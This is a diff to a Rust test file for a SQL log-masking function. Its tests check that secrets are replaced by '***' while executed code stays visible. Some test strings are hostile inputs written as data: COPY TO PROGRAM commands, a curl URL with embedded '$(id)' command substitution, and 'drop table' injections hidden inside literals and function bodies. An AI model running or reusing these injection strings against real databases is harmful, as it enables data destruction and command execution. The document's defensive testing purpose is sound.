@@ -1,12 +1,10 @@
-use proptest::prelude::*;
-
 use super::*;
 
-/// Every `S` word is secret: it must not be in the output.
+/// It must never be in the output.
 const SECRET: &str = "hunter2";
 
 fn masked(text: &str) -> String {
-    String::from_utf8(mask(text.as_bytes()).into_owned()).unwrap()
+    String::from_utf8(mask(text.as_bytes()).text.into_owned()).unwrap()
 }
 
 const MASKED_CASES: &[(&str, &str)] = &[
@@ -58,16 +56,18 @@ const MASKED_CASES: &[(&str, &str)] = &[
         "ALTER USER MAPPING FOR bob SERVER s OPTIONS (SET password 'hunter2')",
         "ALTER USER MAPPING FOR bob SERVER s OPTIONS (SET password '***')",
     ),
-    ("OPTIONS (\"password\" 'hunter2')", "OPTIONS (\"password\" '***')"),
+    (
+        "CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (\"password\" 'hunter2', program 'id')",
+        "CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (\"password\" '***', program 'id')",
+    ),
     ("create user bob identified by 'hunter2'", "create user bob identified by '***'"),
-    ("create user bob identified by \"hunter2\"", "create user bob identified by \"***\""),
     (
         "select password from t where password = 'hunter2' and name = 'bob'",
         "select password from t where password = '***' and name = 'bob'",
     ),
     (
         "update t set password = crypt('hunter2', gen_salt('bf')), name = 'bob'",
-        "update t set password = crypt('***', gen_salt('***')), name = 'bob'",
+        "update t set password = crypt('***', gen_salt('bf')), name = 'bob'",
     ),
     ("update t set password='hun'||'ter2'", "update t set password='***'||'***'"),
     ("set app.password to 'hunter2'", "set app.password to '***'"),
@@ -119,10 +119,6 @@ const MASKED_CASES: &[(&str, &str)] = &[
     ("select dblink('redis://:hunt@hunter2@h')", "select dblink('redis://:***@h')"),
     ("select dblink('x://bob:hun''hunter2@h')", "select dblink('x://bob:***@h')"),
     (
-        "COPY t FROM PROGRAM 'curl https://bob:hunter2@example.com/x'",
-        "COPY t FROM PROGRAM 'curl https://bob:***@example.com/x'",
-    ),
-    (
         "DO $$ BEGIN ALTER ROLE bob PASSWORD 'hunter2'; PERFORM f('x'); END $$",
         "DO $$ BEGIN ALTER ROLE bob PASSWORD '***'; PERFORM f('x'); END $$",
     ),
@@ -132,7 +128,7 @@ const MASKED_CASES: &[(&str, &str)] = &[
     ),
     (
         "DO $$ BEGIN EXECUTE format('ALTER ROLE %I PASSWORD %L', 'bob', 'hunter2'); PERFORM f('x'); END $$",
-        "DO $$ BEGIN EXECUTE format('ALTER ROLE %I PASSWORD %L', '***', '***'); PERFORM f('x'); END $$",
+        "DO $$ BEGIN EXECUTE format('ALTER ROLE %I PASSWORD %L', 'bob', '***'); PERFORM f('x'); END $$",
     ),
     (
         "DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ' || quote_literal('hunter2'); END $$",
@@ -144,19 +140,23 @@ const MASKED_CASES: &[(&str, &str)] = &[
     ),
     (
         "DO $$ BEGIN EXECUTE $q$ALTER ROLE bob PASSWORD $p$hunter2 x$p$ LOGIN$q$; END $$",
-        "DO $$ BEGIN EXECUTE $q$ALTER ROLE bob PASSWORD $***$q$; END $$",
+        "DO $$ BEGIN EXECUTE $q$ALTER ROLE bob PASSWORD $p$***$p$ LOGIN$q$; END $$",
     ),
     (
-        "DO $$ BEGIN EXECUTE 'update t set password = $1' USING 'hunter2'; END $$",
-        "DO $$ BEGIN EXECUTE 'update t set password = ***' USING '***'; END $$",
+        "DO $$ BEGIN EXECUTE 'update t set b = $1, password = $2' INTO x USING 'b', 'hunter2'; END $$",
+        "DO $$ BEGIN EXECUTE 'update t set b = $1, password = $2' INTO x USING 'b', '***'; END $$",
+    ),
+    (
+        "DO $$ BEGIN EXECUTE 'ALTER ROLE ' || quote_ident('bob') || ' PASSWORD ' || quote_literal('hunter2') || ' VALID UNTIL ''x'''; END $$",
+        "DO $$ BEGIN EXECUTE 'ALTER ROLE ' || quote_ident('bob') || ' PASSWORD ' || quote_literal('***') || ' VALID UNTIL ''x'''; END $$",
     ),
     (
         "DO $$ ALTER ROLE bob PASSWORD 'hunter2 $$; select 'x'",
         "DO $$ ALTER ROLE bob PASSWORD '***$$; select 'x'",
     ),
     (
-        "create function f() returns void as $f$ begin pw := 'hunter2'; end $f$ language plpgsql",
-        "create function f() returns void as $f$ begin pw := '***'; end $f$ language plpgsql",
+        "create function f() returns void as $f$ begin update t set pw = 'hunter2'; end $f$ language plpgsql",
+        "create function f() returns void as $f$ begin update t set pw = '***'; end $f$ language plpgsql",
     ),
     (
         "EXECUTE 'ALTER ROLE bob PASSWORD /* c */ E''hunter2'' LOGIN'",
@@ -172,15 +172,137 @@ const MASKED_CASES: &[(&str, &str)] = &[
     ("set my.client_secret = 'hunter2'", "set my.client_secret = '***'"),
     ("select 'aws_secret_access_key=hunter2'", "select 'aws_secret_access_key=***'"),
     (
-        "create function f(a text = my.secret()) returns int as $$ select g('x'), password = 'hunter2' $$",
-        "create function f(a text = my.secret()) returns int as $$ select g('x'), password = '***' $$",
+        "create function f(a text = my.secret()) returns int as $$ select g('x') where password = 'hunter2' $$ language 'sql'",
+        "create function f(a text = my.secret()) returns int as $$ select g('x') where password = '***' $$ language 'sql'",
     ),
     (
         "create function f() returns int set a.b = 'password' as 'select g(1), ''password=hunter2 ''' language sql",
         "create function f() returns int set a.b = 'password' as 'select g(1), ''password=*** ''' language sql",
     ),
     (r"select E'pa\ssword=hunter2'", r"select E'pa\ssword=***'"),
-    ("select password = \"f\"('hunter2')", "select password = \"f\"('***')"),
+    (
+        "insert into users as u (name, \"password\", token) values ('a', 'hunter2', 'hunter2'), ('b', md5('hunter2'), f('x')) on conflict (name) do update set password = 'hunter2', x = 'y'",
+        "insert into users as u (name, \"password\", token) values ('a', '***', '***'), ('b', md5('***'), f('x')) on conflict (name) do update set password = '***', x = 'y'",
+    ),
+    (
+        "insert into users(name, password) select 'a', 'hunter2' from t where x = 'y' union all select 'b', 'hunter2'",
+        "insert into users(name, password) select 'a', '***' from t where x = 'y' union all select 'b', '***'",
+    ),
+    (
+        "insert into users(name, password) (select 'a', 'hunter2')",
+        "insert into users(name, password) (select 'a', '***')",
+    ),
+    (
+        "insert into s.t (language, password) overriding system value values ('a', U&'hunter2')",
+        "insert into s.t (language, password) overriding system value values ('a', U&'***')",
+    ),
+    (
+        "with i as (insert into users(name, password) values ('a', 'hunter2') returning name) select 'x', 'y' from i",
+        "with i as (insert into users(name, password) values ('a', '***') returning name) select 'x', 'y' from i",
+    ),
+    (
+        "explain (analyze) insert into users(password) values (('hunter2'::text))",
+        "explain (analyze) insert into users(password) values (('***'::text))",
+    ),
+    (
+        "update t set (name, password) = ('a', 'hunter2'), b = 'c'",
+        "update t set (name, password) = ('a', '***'), b = 'c'",
+    ),
+    (
+        "update t set (name, password) = row('a', 'hunter2')",
+        "update t set (name, password) = row('a', '***')",
+    ),
+    (
+        "update t set (name, password) = (select 'a', 'hunter2' from t where b = 'c')",
+        "update t set (name, password) = (select 'a', '***' from t where b = 'c')",
+    ),
+    (
+        "update t set data['password'] = '\"hunter2\"', b = 'c'",
+        "update t set data['password'] = '***', b = 'c'",
+    ),
+    (
+        "merge into t using s on t.a = s.a when matched then update set token = 'hunter2' when not matched then insert (a, password) values ('a', 'hunter2')",
+        "merge into t using s on t.a = s.a when matched then update set token = '***' when not matched then insert (a, password) values ('a', '***')",
+    ),
+    (
+        "select * from t where (name, password) in (('a', 'hunter2'), ('b', 'hunter2'))",
+        "select * from t where (name, password) in (('a', '***'), ('b', '***'))",
+    ),
+    (
+        "select * from t where password in ('hunter2', 'hunter2') and x in ('y')",
+        "select * from t where password in ('***', '***') and x in ('y')",
+    ),
+    (
+        "select * from t where t.password is not distinct from 'hunter2' or lower(token) = lower('hunter2')",
+        "select * from t where t.password is not distinct from '***' or lower(token) = lower('***')",
+    ),
+    (
+        "select * from t where password = any(array['hunter2', 'hunter2']) or x = 'y'",
+        "select * from t where password = any(array['***', '***']) or x = 'y'",
+    ),
+    (
+        "select * from t where password between 'hunter2' and 'hunter2' and x = 'y'",
+        "select * from t where password between '***' and '***' and x = 'y'",
+    ),
+    (
+        "select * from t where password = case when a = 'x' then 'hunter2' else 'hunter2' end and b = 'y'",
+        "select * from t where password = case when a = 'x' then '***' else '***' end and b = 'y'",
+    ),
+    (
+        "select * from t where password like 'hunter2%' escape '!'",
+        "select * from t where password like '***' escape '!'",
+    ),
+    (
+        "select password::varchar(20) = 'hunter2', (data->>'token') = 'hunter2'",
+        "select password::varchar(20) = '***', (data->>'token') = '***'",
+    ),
+    (
+        "select crypt('hunter2', password) = password, ext.crypt('hunter2', gen_salt('bf'))",
+        "select crypt('***', password) = password, ext.crypt('***', gen_salt('bf'))",
+    ),
+    (
+        "select pgp_sym_encrypt('data', 'hunter2'), hmac('d', 'hunter2', 'sha256'), pgp_pub_decrypt(m, dearmor('x'), 'hunter2')",
+        "select pgp_sym_encrypt('data', '***'), hmac('d', '***', 'sha256'), pgp_pub_decrypt(m, dearmor('x'), '***')",
+    ),
+    (
+        "select jsonb_build_object('a', 'b', 'password', 'hunter2', 'c', 'd'), jsonb_set(d, '{a,password}', '\"hunter2\"')",
+        "select jsonb_build_object('a', 'b', 'password', '***', 'c', 'd'), jsonb_set(d, '{a,password}', '***')",
+    ),
+    (
+        "select set_config('app.token', 'hunter2', false)",
+        "select set_config('app.token', '***', false)",
+    ),
+    ("alter role bob set app.token to 'hunter2'", "alter role bob set app.token to '***'"),
+    ("set local app.secret = 'hunter2', 'hunter2'", "set local app.secret = '***', '***'"),
+    (
+        "select dblink_exec('host=h password=hunter2', 'alter role bob password ''hunter2''')",
+        "select dblink_exec('host=h password=***', 'alter role bob password ''***''')",
+    ),
+    (
+        "select dblink('c', 'select ''x'' from t where token = ''hunter2''') as t(a text)",
+        "select dblink('c', 'select ''x'' from t where token = ''***''') as t(a text)",
+    ),
+    (
+        "select password = query_to_xml('select ''x'' where password = ''hunter2''', false, true, '')",
+        "select password = query_to_xml('select ''x'' where password = ''***''', false, true, '')",
+    ),
+    (
+        "do $$ begin if password = 'hunter2' then raise notice 'x'; end if; end $$",
+        "do $$ begin if password = '***' then raise notice 'x'; end if; end $$",
+    ),
+    (
+        "select 'ghp_hunter2hunter2', 'glpat-hunter2hunter2' /* Authorization: Bearer hunter2.hunter2 */",
+        "select 'ghp_***', 'glpat-***' /* Authorization: Bearer *** */",
+    ),
+    (
+        "select 'Authorization: Basic hunter2', 'x-api-key: hunter2'",
+        "select 'Authorization: Basic ***', 'x-api-key: ***'",
+    ),
+    ("select 'eyJhunter2.hunter2.hunter2'", "select 'eyJ***'"),
+    (
+        "select 'it costs 5, token=hunter2, and more', 'https://example.com/?a=b&api_key=hunter2&c=d'",
+        "select 'it costs 5, token=***, and more', 'https://example.com/?a=b&api_key=***&c=d'",
+    ),
 ];
 
 #[test]
@@ -211,7 +333,7 @@ fn what_is_no_secret_stays_and_is_borrowed() {
         "insert into t values ('token', 'x') /* unterminated",
     ];
     for text in cases {
-        assert!(matches!(mask(text.as_bytes()), Cow::Borrowed(_)), "{}", masked(text));
+        assert!(matches!(mask(text.as_bytes()).text, Cow::Borrowed(_)), "{}", masked(text));
         assert_eq!(masked(text), text);
     }
 }
@@ -220,7 +342,7 @@ fn what_is_no_secret_stays_and_is_borrowed() {
 fn bind_values_lose_their_connection_secrets() {
     let cases = [
         ("host=h password=hunter2 user=bob", "host=h password=*** user=bob"),
-        ("password='it\\'s hunter2' user=bob", "password='***' user=bob"),
+        ("password='hunter2' user=bob", "password='***' user=bob"),
         ("postgres://bob:hunter2@h/db", "postgres://bob:***@h/db"),
         ("postgres://bob:hunter2@h", "postgres://bob:***@h"),
         ("{\"password\":\"hunter2\"}", "{\"password\":\"***\"}"),
@@ -234,9 +356,19 @@ fn bind_values_lose_their_connection_secrets() {
 }
 
 #[test]
-fn a_long_authority_is_a_secret_and_takes_bounded_memory() {
-    let text = format!("select 'x://bob:{}@h/db'", "s".repeat(5000));
-    assert_eq!(masked(&text), format!("select 'x://bob:***{}@h/db'", "s".repeat(5000 - 1025)));
+fn what_is_too_long_for_a_secret_stays_and_takes_bounded_memory() {
+    let long = "s".repeat(5000);
+    for text in [
+        format!("select 'x://bob:{long}@h/db'"),
+        format!("select 'password={long} x'"),
+        format!("select 'ghp_{long}'"),
+        format!(
+            "create function f() as $$ select password = 'x' {} $$ language sql",
+            long.repeat(20)
+        ),
+    ] {
+        assert_eq!(masked(&text), text);
+    }
 }
 
 #[test]
@@ -265,13 +397,17 @@ fn what_is_executed_is_never_hidden_by_two_readings_of_one_text() {
         b"select password = $\xed\x40$ x $\xfa\x5c$; drop table payroll; --$\xed\x40$".to_vec(),
         // A number ends where a tag begins.
         b"select 1$a$ ' $a$, password = '; drop table payroll; --'".to_vec(),
+        // Escapes and backslashes in SQL in a literal.
+        br"do E'begin alter role x password \'a\x27; drop table payroll; --\'; end'".to_vec(),
+        br"do 'begin alter role x password ''a\x27; drop table payroll; --''; end'".to_vec(),
+        br"do U&'begin alter role x password ''a\0027; drop table payroll; --''; end'".to_vec(),
         // No secret is that long.
         format!("select password = ' {} drop table payroll'", "x".repeat(1024)).into_bytes(),
         format!("select 'password=\"{}drop table payroll'", "x".repeat(1025)).into_bytes(),
         format!("select password = $a${}drop table payroll$a$", "x".repeat(1025)).into_bytes(),
     ];
     for text in texts {
-        let out = String::from_utf8_lossy(&mask(text)).into_owned();
+        let out = String::from_utf8_lossy(&mask(text).text).into_owned();
         assert!(out.contains(run), "{}: {out}", String::from_utf8_lossy(text));
     }
 }
@@ -298,90 +434,137 @@ fn a_secret_before_an_ambiguity_stays_hidden() {
     }
 }
 
-/// Text made of what the lexer knows, in any order.
-fn sql() -> impl Strategy<Value = Vec<u8>> {
-    let piece = prop::sample::select(vec![
-        "password",
-        "PASSWORD ",
-        "identified by ",
-        "'",
-        "''",
-        "\\",
-        "$$",
-        "$a$",
-        "$",
-        "\"",
-        "--",
-        "/*",
-        "*/",
-        "\n",
-        " ",
-        "E'",
-        "U&'",
-        "=",
-        ":",
-        "://",
-        "@",
-        "x",
-        "hunter2",
-        ",",
-        ";",
-        "(",
-        ")",
-        "do ",
-        "as ",
-        "%",
-        "1",
-        "é",
-        "secret",
-        "pw",
-        "&",
-        "null",
-        "language x ",
-        "apikey",
-        "\u{0}",
-    ]);
-    let pieces =
-        prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat().into_bytes());
-    prop_oneof![8 => pieces, 1 => prop::collection::vec(any::<u8>(), 0..100)]
+/// What runs, or may run: none of it is hidden, whatever stands around it.
+const EXECUTED: &[&str] = &[
+    // Names are no secrets, in quotes or not.
+    "select (select t.identified by) || \"query_to_xml\"('select 1', false, true, '')::text from (select ''::text identified) t",
+    "create user bob identified by \"hunter2\"",
+    "select (select t.identified by) = \"pg_get_userbyid\"(10) from (select 'x'::name as identified) t",
+    // Files and programs.
+    "COPY (select 'password' = 'x') TO PROGRAM 'touch /tmp/x'",
+    "COPY (select 'password' = 'x') TO '/var/lib/secret-file'",
+    "copy password to '/tmp/x'",
+    "copy set.password to '/tmp/x'",
+    "copy t(password) from program 'curl https://bob:$(id)@example.com/?token=`id`'",
+    "do $$ begin copy password to program 'id'; end $$",
+    "alter system set ssl_passphrase_command = 'id'",
+    // Functions that aren't known, and those of a known name in a schema that anybody may own.
+    "select password = f('drop table x')",
+    "select password = (select f('drop table x'))",
+    "insert into t(password) values (f('drop table x')), ((select f('drop table y')))",
+    "update t set (a, password) = f('a', 'drop table x')",
+    "select password = evil.md5('drop table x')",
+    "select dblink_exec('password', 'drop table x')",
+    "select f('password', 'drop table x'), crosstab('password')",
+    // What may be run by a function that isn't known is hidden by one word at most, no call.
+    "select f('password=drop_all()'), f('password=drop_all ()'), f('password=drop_all/**/()')",
+    "select f('password = ''; drop table x; --'''), f('password=\"drop_all\"()')",
+    "select f('token: `id`'), f('secret=$(id)'), f('token=a|id')",
+    "select dblink_exec('c', 'lock table x; set y.password=1;drop/**/table/**/x')",
+    // Variables, which EXECUTE runs.
+    "do $$ declare password text := 'drop'; token text = 'x'; begin execute password; end $$",
+    "do $$ begin password := 'drop table x'; password = 'drop table y'; execute password; end $$",
+    "do $$ begin if a then password = 'drop'; else r.password[1] = 'drop'; end if; end $$",
+    "do $$ begin case a when 1 then password = 'drop'; else password = 'x'; end case; end $$",
+    "do $$ begin x(); exception when others then password = 'drop'; execute password; end $$",
+    "do $$ begin for password in execute 'drop' loop null; end loop; end $$",
+    "do $$ begin for password in select 'drop' loop execute password; end loop; end $$",
+    "do $$ begin for password in (select 'drop') loop execute password; end loop; end $$",
+    "do $$ begin foreach password in array array['drop'] loop execute password; end loop; end $$",
+    "do $$ begin select into password 'drop'; execute password; end $$",
+    // SQL that is put together: where a literal of it begins can't be told from here.
+    "do $$ begin v := format('alter role y password ''; drop table x; --'''); execute 'select ''' || v; end $$",
+    "do $$ begin execute 'select ''' || v || 'alter role y password ''; drop table x; --'''; end $$",
+    "do $$ begin execute 'select ''' || quote_literal('a') || ' alter role y password ''; drop table x; --'''; end $$",
+    "do $$ begin execute 'select \"' || quote_ident('a') || ' alter role y password ''; drop table x; --'''; end $$",
+    "do $$ begin execute concat('select ''', 'alter role y password ''; drop table x; --'''); end $$",
+    "do $$ begin execute format('select %s alter role y password ''; drop table x; --''', chr(39)); end $$",
+    "do $$ begin execute format('select ''%L alter role y password ''; drop table x; --''', 'a'); end $$",
+    // Bodies in languages with other literals.
+    "do language plpython3u $$ # it's\nx='password = '; evil(); y = '' $$",
+    "do $$ # it's\nx='password = '; evil(); y = '' $$ language plpython3u",
+    "create function f() returns int as $$ # it's\nx='password = '; evil(); y = '' $$ language plperl",
+    "create function f(language plpgsql) returns int as $$ # '\nx='password = '; evil(); y = '' $$ language plperl",
+    "create function f() returns int language \"plperl\" as $$ # '\nx='password = '; evil(); y = '' $$",
+    // The name of a type is no name of a value.
+    "select password 'drop table x', date '2030-01-01'",
+    "select options(password 'drop table x')",
+];
+
+#[test]
+fn what_is_executed_is_never_masked() {
+    for text in EXECUTED {
+        assert_eq!(masked(text), *text);
+    }
 }
 
-fn in_pieces(text: &[u8], size: usize) -> Vec<u8> {
-    let (mut masker, mut out) = (Masker::default(), Vec::new());
-    text.chunks(size).for_each(|chunk| masker.feed(chunk, false, &mut out));
+#[test]
+fn the_parameters_in_places_of_secrets_are_told() {
+    let cases: &[(&str, &[u16])] = &[
+        ("insert into users(name, password) values ($1, $2), ($3, $4)", &[2, 4]),
+        ("insert into users(name, password) values ($1, crypt($2, gen_salt($3)))", &[2]),
+        ("insert into users(name, password) select $2, $1", &[1]),
+        ("insert into users(name, password) values ($1, f($2))", &[]),
+        ("update users set password = $1 where name = $2", &[1]),
+        ("update users set (name, token) = ($1, $2) where token = $3::text", &[2, 3]),
+        ("select set_config('app.token', $1, false), set_config($2, $3, false)", &[1]),
+        ("select f(password => $1, name => $2), data->>'secret' = $65535", &[1, 65535]),
+        ("select password = $70000, $1", &[]),
+        ("do $$ begin password = $1; end $$", &[]),
+        ("select 'password = $1'", &[]),
+    ];
+    for (text, want) in cases {
+        let params = mask(text.as_bytes()).params;
+        let found: Vec<u16> = (0..=u16::MAX).filter(|number| params.contains(*number)).collect();
+        assert_eq!(found, *want, "{text}");
+    }
+}
+
+#[test]
+fn a_secret_value_keeps_what_is_too_long_for_one() {
+    assert_eq!(mask_secret(b"hunter2"), b"***");
+    assert_eq!(mask_secret(&[0xff; MAX_SECRET + 2]), b"***\xff\xff");
+}
+
+#[test]
+fn a_long_statement_comes_out_as_it_goes_in() {
+    let (mut masker, mut out, mut fed) = (Masker::default(), Vec::new(), 0);
+    let row = b", ('bob', 'hunter2', $$ token=x; /* it's $$)";
+    masker.feed(
+        b"insert into users (name, password, data) values ('a', 'b', 'c')",
+        false,
+        &mut out,
+    );
+    out.clear();
+    for _ in 0..10_000 {
+        masker.feed(row, false, &mut out);
+        fed += row.len();
+    }
+    let expected = b", ('bob', '***', $$ token=***; /* it's $$)".repeat(10_000);
+    assert!(out == expected);
+    out.clear();
+    let nested = ["(".repeat(5000), "[".repeat(5000)].concat();
+    for piece in [nested.as_bytes(), b"'", &[b'x'; 100_000], b"'", &[b';'; 100_000]] {
+        masker.feed(piece, false, &mut out);
+        fed += piece.len();
+    }
     masker.feed(b"", true, &mut out);
-    out
+    assert_eq!(out.len(), fed - 10_000 * row.len());
 }
 
-proptest! {
-    #![proptest_config(ProptestConfig::with_cases(2000))]
-
-    #[test]
-    fn the_output_does_not_depend_on_how_the_text_is_cut(text in sql(), size in 1_usize..8) {
-        prop_assert_eq!(in_pieces(&text, size), in_pieces(&text, usize::MAX));
+#[test]
+fn sql_in_literals_is_read_three_deep_and_stays_whole_deeper() {
+    let quote = |text: &str| format!("'{}'", text.replace('\'', "''"));
+    let deep = |secret: &str, levels: usize| {
+        let mut text = format!("select 1 where password = '{secret}' and x = 'it''s y'");
+        for _ in 1..levels {
+            text = format!("select query_to_xml({}, true, false, 'it''s z')", quote(&text));
+        }
+        format!("do {}", quote(&format!("begin execute {}; end", quote(&text))))
+    };
+    for levels in 1..=2 {
+        assert_eq!(masked(&deep("it''s hunter2", levels)), deep("***", levels));
     }
-
-    #[test]
-    fn the_quick_look_misses_nothing(text in sql()) {
-        prop_assert_eq!(&mask(&text)[..], &in_pieces(&text, 1)[..]);
-    }
-
-    #[test]
-    fn what_is_not_suspicious_passes_unchanged(text in "[ '\"$a/*\\-;(),=e\\\\\n]{0,60}") {
-        prop_assert_eq!(in_pieces(text.as_bytes(), 1), text.as_bytes());
-    }
-
-    #[test]
-    fn a_password_literal_never_shows(before in "[a-z ;,()=]{0,20}", gap in "( |\n|\t|/\\* x \\*/|--y\n){0,4}", secret in "[a-zA-Z0-9 $\"/*;-]{0,12}") {
-        let text = format!("{before} password {gap}'HUSH{secret}' done");
-        prop_assert!(!masked(&text).contains("HUSH"), "{}", masked(&text));
-    }
-
-    #[test]
-    fn nothing_but_stars_is_added(text in sql()) {
-        let out = in_pieces(&text, 1);
-        let mut rest = text.iter();
-        let kept = out.iter().all(|byte| *byte == b'*' || rest.any(|next| next == byte));
-        prop_assert!(kept, "{}", String::from_utf8_lossy(&out));
-    }
+    let deeper = deep("it''s hunter2", 3);
+    assert_eq!(masked(&deeper), deeper);
 }
